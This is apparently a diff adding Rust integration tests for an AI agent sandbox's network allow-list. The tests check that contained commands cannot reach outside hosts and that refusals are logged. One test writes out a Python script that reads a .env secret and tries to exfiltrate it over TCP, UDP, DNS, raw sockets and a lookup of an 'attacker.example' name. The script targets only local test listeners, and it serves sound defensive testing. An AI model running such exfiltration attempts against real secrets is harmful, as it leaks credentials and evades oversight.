@@ -1,0 +1,344 @@
+//! The network wall (`sandbox.network: "allowlist"`, the default) through
+//! the real binary and kernel. Every "outside host" is a listener on the
+//! test's own loopback, outside the session's network namespace: what a
+//! contained command must not reach. Auto mode is off in most tests
+//! (`Env::supervision_only`), so only the wall stands between the command
+//! and the listener.
+
+use std::io::{Read, Write};
+use std::net::{TcpListener, TcpStream, UdpSocket};
+use std::time::Duration;
+
+use serde_json::{Value, json};
+
+use crate::support::{Env, helper, landlock_or_skip, run};
+
+fn write(env: &Env, name: &str, text: &str) {
+    std::fs::write(env.work.join(name), text).unwrap();
+}
+
+/// A wall environment: auto mode off, the given network settings.
+fn walled(network: Value) -> Env {
+    Env::supervision_only().with_env(
+        "AUTOMODE_SETTINGS_JSON",
+        &json!({"autoMode": {"enabled": false}, "sandbox": {"network": network}}).to_string(),
+    )
+}
+
+/// Whatever reaches `l` within `wait` (a listener standing for an
+/// outside host), or nothing.
+fn received_tcp(l: &TcpListener, wait: Duration) -> Option<Vec<u8>> {
+    l.set_nonblocking(true).unwrap();
+    let end = std::time::Instant::now() + wait;
+    while std::time::Instant::now() < end {
+        if let Ok((mut s, _)) = l.accept() {
+            s.set_nonblocking(false).unwrap();
+            s.set_read_timeout(Some(Duration::from_millis(500)))
+                .unwrap();
+            let mut got = Vec::new();
+            let _ = s.read_to_end(&mut got);
+            return Some(got);
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    None
+}
+
+fn received_udp(u: &UdpSocket) -> Option<Vec<u8>> {
+    u.set_read_timeout(Some(Duration::from_millis(300)))
+        .unwrap();
+    let mut buf = [0u8; 2048];
+    u.recv_from(&mut buf).ok().map(|(n, _)| buf[..n].to_vec())
+}
+
+/// The audit log's records of a kind.
+fn audit_events(env: &Env, event: &str) -> Vec<Value> {
+    std::fs::read_to_string(env.root().join("state/automode/audit.jsonl"))
+        .unwrap_or_default()
+        .lines()
+        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+        .filter(|v| v["event"] == event)
+        .collect()
+}
+
+#[test]
+fn a_contained_script_reaches_no_outside_host_by_any_protocol() {
+    if !landlock_or_skip("wall: protocols") {
+        return;
+    }
+    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
+    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
+    let dns = UdpSocket::bind("127.0.0.1:0").unwrap();
+    let (tp, up, dp) = (
+        tcp.local_addr().unwrap().port(),
+        udp.local_addr().unwrap().port(),
+        dns.local_addr().unwrap().port(),
+    );
+    let env = walled(json!("allowlist"));
+    // A project script the agent wrote: every way out it can think of.
+    write(
+        &env,
+        "sync.py",
+        &format!(
+            r#"
+import socket
+secret = open(".env").read().encode()
+def attempt(name, f):
+    try:
+        f()
+        print(name, "sent")
+    except OSError as e:
+        print(name, "failed", e.errno)
+def tcp(family=socket.AF_INET, proto=0):
+    s = socket.socket(family, socket.SOCK_STREAM, proto)
+    s.settimeout(2)
+    s.connect(("127.0.0.1", {tp}))
+    s.sendall(secret)
+    s.close()
+attempt("tcp", tcp)
+attempt("mptcp", lambda: tcp(proto=262))
+def udp():
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.sendto(secret, ("127.0.0.1", {up}))
+attempt("udp", udp)
+def dns():
+    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + bytes([6]) + b"secret" + bytes([7]) + b"example" + bytes([3]) + b"com\x00\x00\x01\x00\x01"
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.sendto(q, ("127.0.0.1", {dp}))
+attempt("dns", dns)
+def lookup():
+    print("resolved", socket.gethostbyname("api-key-in-a-name.attacker.example"))
+attempt("lookup", lookup)
+attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP).sendto(secret, ("127.0.0.1", {up})))
+"#
+        ),
+    );
+    write(&env, ".env", "API_KEY=hunter2\n");
+    let r = run(&mut env.script("python3 sync.py"));
+    let out = r.stdout();
+    assert!(
+        out.contains("mptcp failed") && out.contains("raw failed"),
+        "{out}{}",
+        r.stderr()
+    );
+    // The name resolved to one of the filter's own addresses: the query
+    // went nowhere.
+    assert!(out.contains("resolved 198.1"), "{out}");
+    assert_eq!(
+        received_tcp(&tcp, Duration::from_millis(500)),
+        None,
+        "tcp: {out}"
+    );
+    assert_eq!(received_udp(&udp), None, "udp: {out}");
+    assert_eq!(received_udp(&dns), None, "dns: {out}");
+    let c = crate::sandbox::last_confinement(&env);
+    assert_eq!(c["network"], "wall", "{c}");
+    assert_eq!(c["seccomp"], true, "{c}");
+}
+
+#[test]
+fn a_refused_host_is_told_in_http_recorded_and_named_after_the_command() {
+    if !landlock_or_skip("wall: refusal") {
+        return;
+    }
+    let env = walled(json!("allowlist"));
+    // Through the proxy (curl honours the variables): a 403 with the reason.
+    let r = run(&mut env.script("curl -sS http://not-allowed.example/"));
+    assert!(
+        r.stdout()
+            .contains("automode: not-allowed.example:80 is not on the network allow-list"),
+        "{}{}",
+        r.stdout(),
+        r.stderr()
+    );
+    // A tool that ignores the proxy goes through the filter anyway (it
+    // resolves to the filter's address) and fails closed.
+    let r = run(&mut env.script("curl -sS --noproxy '*' https://not-allowed.example/"));
+    assert_ne!(r.code(), Some(0));
+    assert!(
+        r.stderr()
+            .contains("the network wall refused not-allowed.example:443"),
+        "{}",
+        r.stderr()
+    );
+    let refused = audit_events(&env, "network-refused");
+    assert!(
+        refused.iter().any(|e| e["host"] == "not-allowed.example"
+            && e["port"] == 443
+            && e["process"] == "curl"
+            && e["pid"].is_number()),
+        "{refused:?}"
+    );
+    // An allow-list entry that is (or resolves to) the host's own
+    // loopback is refused by the filter: the host's services stay out.
+    let env = walled(json!({"mode": "allowlist", "allow": ["$defaults", "127.0.0.1:8080"]}));
+    let r = run(&mut env.script("curl -sS --noproxy '' -x \"$HTTP_PROXY\" http://127.0.0.1:8080/"));
+    assert!(
+        r.stdout().contains("loopback, private or link-local"),
+        "{}{}",
+        r.stdout(),
+        r.stderr()
+    );
+}
+
+/// A free port on the test's loopback.
+fn free_port() -> u16 {
+    TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port()
+}
+
+#[test]
+fn a_server_one_command_starts_is_reached_by_the_next_and_by_the_user() {
+    if !landlock_or_skip("wall: loopback servers") {
+        return;
+    }
+    let env = walled(json!("allowlist"));
+    let port = free_port();
+    write(&env, "index.html", "hello from the dev server\n");
+    let r = run(&mut env.script(&format!(
+        "python3 -m http.server {port} --bind 127.0.0.1 >server.log 2>&1 & echo $! > server.pid; \
+         for i in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:{port}/ && break; sleep 0.1; done; echo started"
+    )));
+    assert_eq!(r.stdout(), "started\n", "{}", r.stderr());
+    let pid: i32 = std::fs::read_to_string(env.work.join("server.pid"))
+        .unwrap()
+        .trim()
+        .parse()
+        .unwrap();
+    let _stop = Kill(pid);
+    // The next command reaches it.
+    let r = run(&mut env.script(&format!("curl -sS http://127.0.0.1:{port}/index.html")));
+    assert_eq!(r.stdout(), "hello from the dev server\n", "{}", r.stderr());
+    // The user reaches it at the same port on the host (forwarded within
+    // a few hundred milliseconds of its start).
+    let mut got = String::new();
+    for _ in 0..40 {
+        if let Ok(mut s) = TcpStream::connect(("127.0.0.1", port)) {
+            s.write_all(b"GET /index.html HTTP/1.0\r\n\r\n").unwrap();
+            let _ = s.read_to_string(&mut got);
+            if got.contains("hello") {
+                break;
+            }
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    assert!(got.contains("hello from the dev server"), "{got}");
+}
+
+/// Kills a process when dropped.
+struct Kill(i32);
+
+impl Drop for Kill {
+    fn drop(&mut self) {
+        let _ = nix::sys::signal::kill(
+            nix::unistd::Pid::from_raw(self.0),
+            nix::sys::signal::Signal::SIGKILL,
+        );
+    }
+}
+
+#[test]
+fn a_host_loopback_service_is_reached_only_on_a_listed_port() {
+    if !landlock_or_skip("wall: host ports") {
+        return;
+    }
+    let service = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = service.local_addr().unwrap().port();
+    let send = format!(
+        "python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', {port}), 2); s.sendall(b'select 1'); s.close()\""
+    );
+    let env = walled(json!("allowlist"));
+    let r = run(&mut env.script(&send));
+    assert_ne!(r.code(), Some(0));
+    assert_eq!(received_tcp(&service, Duration::from_millis(300)), None);
+    let env = walled(json!({"mode": "allowlist", "hostPorts": [port]}));
+    let r = run(&mut env.script(&send));
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    assert_eq!(
+        received_tcp(&service, Duration::from_secs(3)).as_deref(),
+        Some(&b"select 1"[..])
+    );
+}
+
+#[test]
+fn a_background_process_keeps_the_wall_and_gains_nothing() {
+    if !landlock_or_skip("wall: background") {
+        return;
+    }
+    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = outside.local_addr().unwrap().port();
+    let env = walled(json!("allowlist"));
+    write(
+        &env,
+        "later.py",
+        &format!(
+            "import socket, time\ntime.sleep(1.0)\ntry:\n    socket.create_connection(('127.0.0.1', {port}), 2).sendall(b'late')\n    print('reached')\nexcept OSError as e:\n    print('refused', e.errno)\n"
+        ),
+    );
+    let r = run(&mut env.script("python3 later.py > later.out 2>&1 & echo $! > later.pid"));
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    let pid: i32 = std::fs::read_to_string(env.work.join("later.pid"))
+        .unwrap()
+        .trim()
+        .parse()
+        .unwrap();
+    let _stop = Kill(pid);
+    // The command is over; its background process tries later.
+    assert_eq!(received_tcp(&outside, Duration::from_secs(3)), None);
+    let out = std::fs::read_to_string(env.work.join("later.out")).unwrap_or_default();
+    assert!(out.contains("refused"), "{out}");
+}
+
+#[test]
+fn where_user_namespaces_are_refused_the_wall_says_so_and_require_refuses() {
+    if !landlock_or_skip("wall: no user namespaces") {
+        return;
+    }
+    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = outside.local_addr().unwrap().port();
+    let probe = format!(
+        "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2).sendall(b'x'); print('reached')\""
+    );
+    let via = |env: &Env, args: &[&str]| {
+        let mut c = env.command("python3");
+        c.arg(helper("no_userns.py")).args(args);
+        c
+    };
+    let shim = |env: &Env| env.shims.join("bash").display().to_string();
+    // auto: the command runs with the host's network (the seccomp filter
+    // stays), and `status` and `doctor` say the wall is not up and why.
+    let env = walled(json!("allowlist"));
+    let r = run(&mut via(&env, &[&shim(&env), "-c", &probe]));
+    assert_eq!(r.stdout(), "reached\n", "{}", r.stderr());
+    let _ = received_tcp(&outside, Duration::from_millis(500));
+    let bin = crate::support::automode_bin().display().to_string();
+    for view in ["status", "doctor"] {
+        let r = run(&mut via(&env, &[&bin, view]));
+        assert!(
+            r.stdout().contains("network wall: not in force"),
+            "{view}: {}",
+            r.stdout()
+        );
+        assert!(
+            r.stdout().contains("user namespace"),
+            "{view}: {}",
+            r.stdout()
+        );
+    }
+    // require: refused.
+    let env = Env::supervision_only().with_env(
+        "AUTOMODE_SETTINGS_JSON",
+        r#"{"autoMode": {"enabled": false}, "sandbox": {"mode": "require", "network": "allowlist"}}"#,
+    );
+    let r = run(&mut via(&env, &[&shim(&env), "-c", &probe]));
+    assert_eq!(r.code(), Some(121), "{}", r.stderr());
+    assert!(
+        r.stderr().contains("network wall cannot be set up"),
+        "{}",
+        r.stderr()
+    );
+    assert_eq!(received_tcp(&outside, Duration::from_millis(300)), None);
+}
